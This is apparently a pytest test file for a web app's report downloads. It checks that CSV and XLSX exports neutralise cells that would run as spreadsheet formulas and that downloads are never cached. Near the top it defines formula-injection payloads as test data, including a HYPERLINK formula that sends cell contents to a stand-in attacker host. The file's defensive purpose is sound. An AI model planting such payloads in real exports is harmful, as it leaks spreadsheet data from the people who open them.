"""Report downloads: no cell a spreadsheet would run as a formula, numbers stored as
numbers, and the headers of a private download."""

import csv
import io

import pytest
from openpyxl import load_workbook

from app import workflow
from app.extensions import db
from app.models import Opd

from .factories import forward_to, make_message, make_user
from .support.web import WEB_CONFIG, signed_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
DANGEROUS_NAMES = [FORMULA, "+1+2", "-3+4", "@SUM(A1:A2)", "\tTAB=1", "\rCR=1"]


@pytest.fixture
def app_config():
    return WEB_CONFIG


@pytest.fixture
def report(app):
    """OPDs an Admin named like formulas, each with a resolved and rated message."""
    with app.app_context():
        admin = make_user("Admin", email="admin@example.test")
        for i, name in enumerate(DANGEROUS_NAMES):
            db.session.add(Opd(name=name, short_name=f"JAHAT{i}", active=True))
            db.session.commit()
            operator = make_user("Operator", opd=f"JAHAT{i}")
            citizen = make_user("User")
            message = make_message(citizen, title=f"Pesan {i}")
            forward_to(message, f"JAHAT{i}", admin=admin)
            workflow.start(operator, message)
            workflow.resolve(operator, message, resolution="Selesai.")
            workflow.rate(citizen, message, stars=4)
    return signed_in(app, "admin@example.test")


def test_csv_cells_that_would_be_formulas_are_neutralised(report):
    """Does every CSV cell starting with =, +, -, @, a tab or a carriage return begin
    with an apostrophe, so that a spreadsheet shows it instead of running it?"""
    response = report.get("/reports/export/csv?preset=all")
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)))
             for cell in row]
    for name in DANGEROUS_NAMES:
        assert "'" + name in cells
        assert name not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_holds_text_as_text_and_numbers_as_numbers(report):
    """In the XLSX, is an OPD named like a formula plain (neutralised) text, not a
    formula, and are counts, percents, average stars and durations numbers?"""
    response = report.get("/reports/export/xlsx?preset=all")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # openpyxl leaves a carriage return as the XML escape it was stored as.
    texts = {c.value.replace("_x000D_", "\r") for c in cells if c.data_type == "s"}
    for name in DANGEROUS_NAMES:
        assert "'" + name in texts
    rows = [[c.value for c in row] for row in sheet.iter_rows()
            if row[0].value == "'" + FORMULA]
    assert len(rows) == 5  # by OPD, satisfaction, speed, deadlines kept, reopened
    for row in rows:
        assert all(isinstance(v, int | float) for v in row[1:] if v is not None), row
    assert [1, 4] in [row[1:3] for row in rows]  # one rating of four stars
    assert [3, 10, 3] == [len([v for v in row[1:] if v is not None]) for row in rows][2:]


def test_downloads_have_one_charset_and_are_never_stored(report):
    """Does a CSV download name its charset once, and is no download kept in a cache?"""
    response = report.get("/reports/export/csv?preset=all")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    for fmt in ("csv", "json", "xlsx", "pdf"):
        response = report.get(f"/reports/export/{fmt}?preset=all")
        cache = response.headers["Cache-Control"]
        assert "no-store" in cache and "public" not in cache, fmt
